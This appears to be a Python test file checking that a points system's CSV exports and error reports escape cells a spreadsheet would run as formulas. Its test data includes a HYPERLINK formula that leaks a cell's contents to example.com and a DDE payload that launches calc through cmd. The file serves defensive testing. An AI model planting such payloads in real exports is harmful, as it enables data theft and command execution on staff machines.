"""CSV that staff open in a spreadsheet (``points.spreadsheet``): a text cell a spreadsheet
would run as a formula is written as text, in the mail-merge list and in a file's error
report; every other value is written as it is."""

from __future__ import annotations

import csv
import io
from datetime import date

from hypothesis import given
from hypothesis import strategies as st

from issuers import bulk
from issuers.bulk import RowError
from points import notices
from points.notices import Notice
from points.spreadsheet import FORMULA_START, csv_text, text_cell

FORMULAS = [
    '=HYPERLINK("http://example.com/?leak="&A2,"click")',
    "+81-3-0000-0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@given(st.text())
def test_a_text_cell_never_starts_a_formula_and_keeps_its_text(value: str) -> None:
    cell = text_cell(value)
    assert not cell.startswith(FORMULA_START)
    if value.startswith(FORMULA_START):
        assert cell == "'" + value
    else:
        assert cell == value


def test_csv_text_guards_text_cells_only() -> None:
    text = csv_text(("a", "b", "c"), [("=1+1", -5, "狛江"), ("'quoted", 0, "")])
    assert text == "a,b,c\r\n'=1+1,-5,狛江\r\n'quoted,0,\r\n"


def test_a_name_that_is_a_formula_reaches_the_mail_merge_list_as_text() -> None:
    listed = [
        Notice(
            resident_id="res_1",
            address_number=formula,
            name=formula,
            point_type="pt",
            expiring_points=10,
            first_expiry_date=date(2026, 5, 31),
            balance=-1 if n == 0 else 10,
        )
        for n, formula in enumerate(FORMULAS)
    ]
    for encoding, decoding in (("utf-8", "utf-8-sig"), ("cp932", "cp932")):
        parsed = list(csv.reader(io.StringIO(notices.to_csv(listed, encoding).decode(decoding))))
        assert [(row[1], row[2]) for row in parsed[1:]] == [("'" + f, "'" + f) for f in FORMULAS]
        # Numbers stay numbers, a negative one too.
        assert [row[6] for row in parsed[1:]] == ["-1"] + ["10"] * (len(FORMULAS) - 1)


def test_the_error_report_of_a_file_keeps_the_files_values_as_text() -> None:
    errors = [
        RowError(2, "resident_id", "=cmd|' /C calc'!A0 is not a resident id"),
        RowError(3, "record_id", "a record id: 12"),
    ]
    text = bulk.errors_csv(errors).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [
        ["line", "column", "reason"],
        ["2", "resident_id", "'=cmd|' /C calc'!A0 is not a resident id"],
        ["3", "record_id", "a record id: 12"],
    ]
